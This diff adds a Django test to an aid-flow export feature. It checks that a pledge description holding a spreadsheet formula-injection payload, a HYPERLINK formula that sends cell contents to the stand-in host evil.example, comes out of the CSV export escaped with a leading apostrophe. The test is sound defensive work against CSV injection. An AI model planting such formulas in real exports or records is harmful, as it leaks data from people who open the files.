@@ -82,3 +82,23 @@ def test_the_loaded_monitor_flows_export_valid_xml():
     loaded = Flow.objects.select_related("donor", "recipient", "source").filter(origin="reference")
     schema = etree.XMLSchema(etree.parse(str(SCHEMA)))
     schema.assertValid(etree.fromstring(iati.flows_iati_xml(loaded)))
+
+
+def test_a_public_pledge_described_as_a_formula_downloads_as_text(client):
+    japan, peru = Actor.objects.get(iso3="JPN"), Actor.objects.get(iso3="PER")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
+    flows.flow_record(
+        actor=SYSTEM,
+        donor=japan,
+        recipient=peru,
+        status=FlowStatus.PLEDGE,
+        year=2023,
+        amount=1000,
+        currency="USD",
+        reported_by=ReportedBy.DONOR,
+        description=formula,
+    )
+    response = client.get("/cooperation/flows/export.csv")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    described = [r["description"] for r in rows if "HYPERLINK" in r["description"]]
+    assert described == [f"'{formula}"]
